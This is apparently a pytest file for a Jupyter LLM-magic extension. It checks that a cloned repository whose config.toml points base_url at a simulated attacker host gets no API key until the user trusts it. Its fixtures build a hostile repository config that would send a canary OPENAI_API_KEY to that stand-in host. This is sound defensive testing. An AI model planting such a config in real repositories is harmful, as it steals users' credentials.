"""Trust in a real kernel: a cloned repository gets nothing, and a person is never asked."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

import pytest
from hostile import CANARY, NAME, Attacker, write_repository
from kernel import Kernel

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from kernel import Ran
    from model_server import ModelServer

LOOK_UP = f"""\
import socket
real = socket.getaddrinfo
def stand_in(host, *args, **kwargs):
    name = host.decode() if isinstance(host, bytes) else host
    return real("127.0.0.1" if name == {NAME!r} else host, *args, **kwargs)
socket.getaddrinfo = stand_in
%load_ext openhands_llm_magic"""
"""Finds the host of another machine on this one."""


@pytest.fixture
def attacker(
    monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Attacker]:
    with Attacker(monkeypatch, tmp_path_factory.mktemp("attacker")) as server:
        yield server


def kernel_in(folder: Path, **env: str) -> Kernel:
    home = folder.parent / "home"
    home.mkdir(exist_ok=True)
    own = {"PATH": os.environ["PATH"], "HOME": str(home)}
    if authority := os.environ.get("SSL_CERT_FILE"):
        own["SSL_CERT_FILE"] = authority
    started = Kernel({**own, **env}, cwd=str(folder))
    assert started.run(LOOK_UP).error is None
    return started


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "project"
    made.mkdir()
    return made


ROADS = [
    "%%llm\nHello",
    "%llm Hello",
    "said = %llm Hello",
    "%llm_embed ['Hello']",
    "%llm_error",
    "%llm_config --test",
    "%llm_models --server",
    "from openhands_llm_magic import ask\nask('Hello')",
    "import asyncio\nfrom openhands_llm_magic import ask_async\nawait ask_async('Hello')",
]


def test_a_cloned_repository_gets_nothing_until_it_is_trusted(
    folder: Path, attacker: Attacker
) -> None:
    """Each road ends in one line, which says how to trust; the last cell shows that one could."""
    write_repository(
        folder,
        f'[llm]\nmodel = "openai/x"\nbase_url = "{attacker.base_url}"\n'
        '[openhands_llm_magic]\nembedding_model = "openai/x"\n',
    )
    with kernel_in(folder, OPENAI_API_KEY=CANARY, LLM_MAGIC_FOOTER="on") as kernel:
        kernel.run("1 / 0")
        for cell in ROADS:
            said = kernel.run(cell).error or ""
            assert f"config.toml line 3 leads to {NAME}:{attacker.port}" in said, cell
            assert "OPENAI_API_KEY would go there" in said, cell
            wanted = (
                "openhands-llm-magic trust"
                if "import" in cell
                else "`%llm_config --trust config.toml`"
            )
            assert wanted in said, cell
            assert "\n" not in said.strip(), cell
        checked = kernel.run("%llm_config --check").stdout
        assert f"warning  nothing is sent to {NAME}:{attacker.port}" in checked
        assert "It would be stopped: not sent" in kernel.run("%llm --dry-run Hello").everything
        assert attacker.received == []

        trusted = kernel.run("%llm_config --trust").stdout
        assert trusted.startswith(f"config.toml is trusted as it is now, with https://{NAME}:")
        assert kernel.run("%llm_config --trusted").stdout == trusted
        assert "key refused" in str(kernel.run("%llm Hello").error) or attacker.received
        assert CANARY.encode() in attacker.received[0]
        kernel.run("%llm_config --untrust")
        before = len(attacker.received)
        assert "leads to" in str(kernel.run("%llm Hello").error)
        assert len(attacker.received) == before


def answered(ran: Ran) -> None:
    assert ran.error is None
    assert "trust" not in ran.everything


@pytest.mark.slow  # it starts a kernel of its own
def test_a_person_with_a_file_of_his_own_is_never_asked(
    folder: Path, model_server: ModelServer
) -> None:
    """Its key goes where it says; that others can read it on the way is said once a session."""
    base_url = model_server.openai_base.replace("127.0.0.1", NAME)
    write_repository(
        folder, f'[llm]\nmodel = "openai/x"\nbase_url = "{base_url}"\napi_key = "of the file"\n'
    )
    with kernel_in(folder, OPENAI_API_KEY=CANARY, LLM_MAGIC_FOOTER="on") as kernel:
        first, second = kernel.run("%llm Hello"), kernel.run("%llm Hello again")
        answered(first)
        answered(second)
        assert "over plain http" in first.everything
        assert "over plain http" not in second.everything
        assert f"from {NAME}" in second.everything
        answered(kernel.run("%llm_config --test"))
    assert {each.headers["authorization"] for each in model_server.received} == {
        "Bearer of the file"
    }


@pytest.mark.slow  # it starts a kernel of its own
def test_a_person_with_a_key_in_the_environment_is_never_asked(
    folder: Path, model_server: ModelServer
) -> None:
    base_url = model_server.openai_base.replace("127.0.0.1", NAME)
    env = {"LLM_MODEL": "openai/x", "LLM_API_KEY": CANARY, "LLM_BASE_URL": base_url}
    with kernel_in(folder, **env) as kernel:
        answered(kernel.run("%llm Hello"))
        answered(kernel.run("%llm_config --test"))
    assert model_server.count == 2


@pytest.mark.slow  # it starts a kernel of its own
def test_a_person_with_a_local_server_is_never_asked(
    folder: Path, model_server: ModelServer
) -> None:
    write_repository(
        folder, f'[llm]\nmodel = "openai/x"\nbase_url = "{model_server.openai_base}"\n'
    )
    with kernel_in(folder, LLM_API_KEY=CANARY) as kernel:
        answered(kernel.run("%llm Hello"))
        answered(kernel.run("%llm_config --test"))
        answered(kernel.run("%llm_config --check"))
    assert model_server.count == 2
